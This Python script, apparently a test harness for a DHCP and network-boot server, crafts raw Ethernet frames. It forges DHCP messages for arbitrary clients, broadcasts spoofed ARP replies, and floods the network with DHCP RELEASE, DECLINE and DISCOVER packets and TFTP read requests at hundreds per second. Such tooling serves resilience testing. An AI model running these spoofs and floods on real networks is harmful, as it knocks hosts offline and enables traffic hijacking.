# SPDX-License-Identifier: GPL-2.0-or-later
"""What an attacker on the wire sends, by the card IF, in any name: raw Ethernet frames.

    attacker.py IF dhcp TYPE [KEY=VALUE...]   a DHCP message, and all that servers say on IF in the half second after it, one line
                                              each: "to MAC ADDRESS gives ADDRESS FILE". Keys: chaddr, ether (the frame's
                                              MAC), source, port, ciaddr, asked (50), server (54), class (60), arch (93),
                                              user (77), giaddr, to (ADDRESS@MAC, else a broadcast), dport, hear (seconds)
    attacker.py IF arp ADDRESS MAC TIMES      "ADDRESS is at MAC", to everybody
    attacker.py IF releases CHADDR SECONDS                  RELEASEs of CHADDR's, 700 a second
    attacker.py IF flood ADDRESS CHADDR SERVER@MAC SECONDS   read requests from ADDRESS, and DISCOVERs, DECLINEs and RELEASEs of
                                              CHADDR: about 300 a second
"""
import os, select, socket, struct, sys, time
from wire import ANY, BROADCAST, COOKIE, mac, mac_text, message, open_wire, option, udp

TYPES = {"discover": 1, "request": 3, "decline": 4, "release": 7, "inform": 8}
name, what, *args = sys.argv[1:]
wire, own = open_wire(name)


def hear(seconds):
    end = time.time() + seconds
    while time.time() < end:
        if not select.select([wire], [], [], max(0, end - time.time()))[0]:
            continue
        f = wire.recv(2048)
        if len(f) < 282 or f[12:14] != b"\x08\x00" or f[14] != 0x45 or f[23] != 17 or f[42] != 2 or f[278:282] != COOKIE:
            continue
        print("to", mac_text(f[:6]), socket.inet_ntoa(f[30:34]), "gives", socket.inet_ntoa(f[58:62]), f[150:278].split(b"\0")[0].decode("latin1"),
              f[282:].replace(b"\0", b"").decode("latin1").encode("ascii", "replace").decode(), flush=True)


def dhcp(kind, words):
    k = dict(w.split("=", 1) for w in words)
    options = b""
    for code, key in (50, "asked"), (54, "server"):
        options += option(code, socket.inet_aton(k[key])) if key in k else b""
    for code, key in (60, "class"), (77, "user"):
        options += option(code, k[key].encode()) if key in k else b""
    options += option(93, struct.pack("!H", int(k["arch"]))) if "arch" in k else b""
    to, _, to_ether = k.get("to", "255.255.255.255@ff:ff:ff:ff:ff:ff").partition("@")
    chaddr = mac(k["chaddr"]) if "chaddr" in k else own
    data = message(1, TYPES[kind], chaddr, int.from_bytes(os.urandom(4), "big"), options, k.get("ciaddr", ANY))
    data = data[:24] + socket.inet_aton(k.get("giaddr", ANY)) + data[28:]
    wire.send(udp(mac(k["ether"]) if "ether" in k else own, mac(to_ether), k.get("source", ANY), to,
        (int(k.get("port", 68)), int(k.get("dport", 67))), data))
    hear(float(k.get("hear", 0.5)))


def arp(address, at, times):
    for _ in range(int(times)):
        for op in 1, 2:
            ip = socket.inet_aton(address)
            wire.send(BROADCAST + own + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, op) + mac(at) + ip + BROADCAST + ip)
        time.sleep(0.05)


def flood(address, chaddr, server, seconds):
    server, _, to = server.partition("@")
    ip, end, n = socket.inet_aton(address), time.time() + float(seconds), 0
    while time.time() < end:
        n += 1
        wire.send(udp(own, mac(to), address, server, (1024 + n % 60000, 69), b"\0\1grub/grub.cfg\0octet\0"))
        for kind in "discover", "decline", "release":
            options = option(50, ip) + option(54, socket.inet_aton(server)) if kind == "decline" else option(77, b"iPXE")
            wire.send(udp(own, BROADCAST, ANY, "255.255.255.255", (68, 67),
                          message(1, TYPES[kind], mac(chaddr), n, options, address if kind == "release" else ANY)))
        time.sleep(0.013)
    print(4 * n, "packets")


# Nothing that is answered: RELEASEs alone, each 730 or so a second.
def releases(chaddr, seconds):
    end, n = time.time() + float(seconds), 0
    while time.time() < end:
        n += 1
        wire.send(udp(own, BROADCAST, ANY, "255.255.255.255", (68, 67), message(1, TYPES["release"], mac(chaddr), n, ciaddr="10.66.0.77")))
        time.sleep(0.00137)
    print(n, "packets")


if what == "dhcp":
    dhcp(args[0], args[1:])
elif what == "arp":
    arp(*args)
elif what == "flood":
    flood(*args)
elif what == "releases":
    releases(*args)
